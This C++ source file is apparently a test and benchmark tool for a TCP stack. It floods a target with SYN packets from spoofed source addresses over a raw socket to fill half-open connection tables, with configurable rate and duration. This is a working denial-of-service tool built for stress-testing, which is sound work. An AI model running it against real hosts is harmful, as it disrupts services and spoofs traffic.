// syn_flood: SYNs with spoofed source addresses, for the netns test
// syn-flood and `scripts/bench tun` (root, inside a namespace of their own).
//
//   syn_flood --to 198.18.0.2 --port 80 --from 198.18.0.0/24 --rate 20000 --seconds 5
//
// Each SYN comes from a random host of --from (never the kernel's own
// addresses, which would answer our SYN-ACKs with RST) and a random port,
// with a random ISN and an MSS option, built by impl/wire's emit and sent
// through a raw socket, so Linux routes it into the TUN device like any
// packet to that address. Nothing answers the SYN-ACKs: the half-open
// entries stay until they time out, which is the attack. --rate 0 sends as
// fast as the socket takes them. Prints one line of JSON: SYNs sent, seconds.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <random>
#include <string>
#include <tcpmc/net/tun.hpp>
#include <tcpmc/wire/codec.hpp>
#include <thread>
#include <vector>

int main(int argc, char** argv) {
  namespace net = tcpmc::net;
  namespace wire = tcpmc::wire;
  CLI::App app{"SYNs from spoofed addresses of a subnet, at a bounded rate for a bounded time"};
  std::string to, from;
  std::uint16_t port = 80;
  double rate = 10000, seconds = 5;
  std::uint64_t seed = 1;
  std::vector<std::string> skip;
  app.add_option("--to", to, "Target address")->required();
  app.add_option("--port", port, "Target port");
  app.add_option("--from", from, "Subnet the spoofed sources are drawn from, A.B.C.D/NN")
      ->required();
  app.add_option("--skip", skip, "Addresses never used as a source (the kernel's own)");
  app.add_option("--rate", rate, "SYNs per second; 0: as fast as possible")
      ->check(CLI::Range(0.0, 10'000'000.0));
  app.add_option("--seconds", seconds, "How long")->check(CLI::Range(0.1, 120.0));
  app.add_option("--seed", seed, "Seed of the sources, ports and ISNs");
  CLI11_PARSE(app, argc, argv);

  const auto target = net::parse_ipv4(to);
  const auto subnet = net::parse_ipv4_prefix(from);
  if (!target || !subnet || subnet->length < 8 || subnet->length > 30) {
    std::fprintf(stderr, "syn_flood: --to A.B.C.D and --from A.B.C.D/NN (/8 to /30)\n");
    return 2;
  }
  std::vector<std::uint32_t> excluded{target->to_u32()};
  for (const auto& s : skip) {
    const auto a = net::parse_ipv4(s);
    if (!a) {
      std::fprintf(stderr, "syn_flood: --skip '%s' is not A.B.C.D\n", s.c_str());
      return 2;
    }
    excluded.push_back(a->to_u32());
  }

  const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IP_HDRINCL implied
  if (fd < 0) {
    std::fprintf(stderr, "syn_flood: raw socket: %s (needs root or CAP_NET_RAW)\n",
                 std::strerror(errno));
    return 2;
  }
  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_addr.s_addr = htonl(target->to_u32());

  std::mt19937_64 rng(seed);
  const std::uint32_t host_bits = 32 - subnet->length;
  const std::uint32_t base = subnet->address.to_u32() & ~((1U << host_bits) - 1);
  wire::SegmentRepr syn;
  syn.ip.destination = *target;
  syn.tcp.destination_port = port;
  syn.tcp.flags = wire::TcpFlags(wire::TcpFlag::Syn);
  syn.tcp.window = 64240;
  syn.tcp.options.mss = 1460;
  std::array<std::byte, 128> packet{};

  using Clock = std::chrono::steady_clock;
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  while (Clock::now() < end) {
    // Host part from 1 to 2^h - 2: never the network or broadcast address.
    std::uint32_t source = 0;
    do {
      source = base | (1 + static_cast<std::uint32_t>(rng() % ((1U << host_bits) - 2)));
    } while (std::find(excluded.begin(), excluded.end(), source) != excluded.end());
    syn.ip.source = wire::Ipv4Address::from_u32(source);
    syn.ip.identification = static_cast<std::uint16_t>(rng());
    syn.tcp.source_port = static_cast<std::uint16_t>(1024 + rng() % 64000);
    syn.tcp.seq = static_cast<std::uint32_t>(rng());
    const auto n = wire::emit(syn, packet);
    if (!n) return 1;
    if (sendto(fd, packet.data(), *n, 0, reinterpret_cast<const sockaddr*>(&dst), sizeof dst) > 0) {
      ++sent;
    } else if (errno != ENOBUFS && errno != EAGAIN) {
      std::fprintf(stderr, "syn_flood: sendto: %s\n", std::strerror(errno));
      return 1;
    }
    if (rate > 0) {  // pace: never ahead of sent/rate seconds since the start
      const auto due = start + std::chrono::duration<double>(static_cast<double>(sent) / rate);
      if (due > Clock::now()) std::this_thread::sleep_until(due);
    }
  }
  const double elapsed = std::chrono::duration<double>(Clock::now() - start).count();
  std::printf("{\"syns\": %llu, \"seconds\": %.3f, \"per_second\": %.0f}\n",
              static_cast<unsigned long long>(sent), elapsed, static_cast<double>(sent) / elapsed);
  close(fd);
  return 0;
}
